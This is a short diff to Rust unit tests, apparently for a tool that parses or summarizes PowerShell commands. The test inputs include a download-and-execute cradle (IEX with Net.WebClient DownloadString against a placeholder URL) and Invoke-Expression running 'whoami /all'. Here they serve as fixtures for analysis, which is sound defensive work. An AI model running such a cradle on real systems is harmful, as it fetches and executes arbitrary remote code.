@@ -346,7 +346,7 @@ mod tests {
             ),
             (
                 "IEX (New-Object Net.WebClient).DownloadString('http://x')",
-                "New-Object<Net.WebClient>; webclient.DownloadString<http://x>; Invoke-Expression<?>",
+                "New-Object<Net.WebClient>; webclient.DownloadString<http://x>; Invoke-Expression<?> -arg<http://x>",
             ),
             ("iex 'whoami /all'", "Invoke-Expression<whoami /all>; whoami</all>"),
             ("& { whoami }", "whoami"),
